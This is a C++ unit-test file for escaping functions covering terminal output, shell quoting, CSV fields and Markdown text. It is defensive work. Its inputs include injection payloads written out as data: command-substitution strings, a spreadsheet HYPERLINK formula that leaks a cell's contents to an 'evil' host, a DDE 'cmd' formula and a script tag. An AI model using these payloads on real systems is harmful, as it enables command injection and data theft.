// SPDX-License-Identifier: GPL-3.0-or-later
#include "core/base/child_process.h"
#include "core/base/escape.h"
#include "core/base/units.h"

#include <gtest/gtest.h>
#include <unistd.h>

namespace apertune::base {
namespace {

TEST(Escape, AStrangersTextCannotSteerATerminal)
{
    EXPECT_EQ(printable("net\x1b]0;title\x07 \x1b[2J"), "net\\x1b]0;title\\x07 \\x1b[2J");
    EXPECT_EQ(printable("C1 \xc2\x9b"
                        "31m, raw \x9b"
                        "31m, DEL \x7f"),
              "C1 \\x9b31m, raw \\x9b31m, DEL \\x7f");
    EXPECT_EQ(printable("a\u202eb\u2066c\u2069\u200f\u2028"), "a\\u202eb\\u2066c\\u2069\\u200f\\u2028");
    EXPECT_EQ(printable("over\rwritten\n\tnext"), "over\\x0dwritten\n\tnext");
    EXPECT_EQ(printableLine("one\nrow\t"), "one\\x0arow\\x09");
    EXPECT_EQ(printable(std::string_view("\0", 1)), "\\x00");
}

TEST(Escape, OrdinaryTextStaysAsItIs)
{
    for (const char* text : {"", "resnet50", "Größe ± 3 µs · 東京 🙂", "e\u0301 (combining)"}) {
        EXPECT_EQ(printable(text), text);
        EXPECT_EQ(printableLine(text), text);
    }
}

TEST(Escape, BytesThatAreNoUtf8AreShownByTheirNumbers)
{
    EXPECT_EQ(printable("\xff\xc0\xaf|\xed\xa0\x80|\xe2\x82"), "\\xff\\xc0\\xaf|\\xed\\xa0\\x80|\\xe2\\x82");
}

TEST(Escape, AWordOfAHintMeansThatWordToAShell)
{
    EXPECT_EQ(shellQuoted("runs/w2.apertune"), "runs/w2.apertune");
    for (const std::string word : {"", "pa th", "$(touch PWN)", "it's", "a;b", "`id`", "-x\n", "\"", "~", "*", "#"}) {
        auto child = ChildProcess::start({{"/bin/sh", "-c", "printf %s " + shellQuoted(word)}});
        ASSERT_TRUE(child);
        ASSERT_TRUE(child->wait(fromSeconds(60)));
        char buffer[64];
        const ssize_t size = ::read(child->stdoutFd(), buffer, sizeof buffer);
        EXPECT_EQ(std::string(buffer, static_cast<std::size_t>(std::max<ssize_t>(0, size))), word);
    }
}

TEST(Escape, AFieldOfCsvIsNoFormulaToASpreadsheet)
{
    EXPECT_EQ(csvField("=HYPERLINK(\"http://evil/?\"&A1)"), "\"'=HYPERLINK(\"\"http://evil/?\"\"&A1)\"");
    EXPECT_EQ(csvField("=cmd|' /C calc'!A0"), "'=cmd|' /C calc'!A0");
    EXPECT_EQ(csvField("@SUM(1)"), "'@SUM(1)");
    EXPECT_EQ(csvField("+1+1"), "'+1+1");
    EXPECT_EQ(csvField("-2+3"), "'-2+3");
    EXPECT_EQ(csvField("\t=1"), "'\t=1");
    for (const std::string word : {"-inf", "+nan", "-nan(x)", "+-1"})
        EXPECT_EQ(csvField(word), "'" + word) << "only a number begins with a sign";
    EXPECT_EQ(csvField("\r=1"), "'\\x0d=1");
    for (const char* number : {"-1", "+1", "-0.5", "-1e-9", "3", ""})
        EXPECT_EQ(csvField(number), number) << "a number stays one";
    EXPECT_EQ(csvField("a,b"), "\"a,b\"");
    EXPECT_EQ(csvField("two\nlines"), "\"two\nlines\"");
    EXPECT_EQ(csvField("a-b=c"), "a-b=c");
    EXPECT_EQ(csvField("\x1b[31m"), "\\x1b[31m");
}

TEST(Escape, ANameInMarkdownIsTextAlone)
{
    EXPECT_EQ(markdownText("<script>alert(1)</script>"), "\\<script\\>alert(1)\\</script\\>");
    EXPECT_EQ(markdownText("[click](http://evil) ![x](y)"), "\\[click\\](http://evil) \\!\\[x\\](y)");
    EXPECT_EQ(markdownText("a\n# heading"), "a\\\\x0a# heading");
    EXPECT_EQ(markdownText("mobilenet_v3, O1 fp32 b4"), "mobilenet_v3, O1 fp32 b4");
    EXPECT_EQ(markdownText("__bold__ *b* `c`"), "\\_\\_bold\\_\\_ \\*b\\* \\`c\\`");
}

} // namespace
} // namespace apertune::base
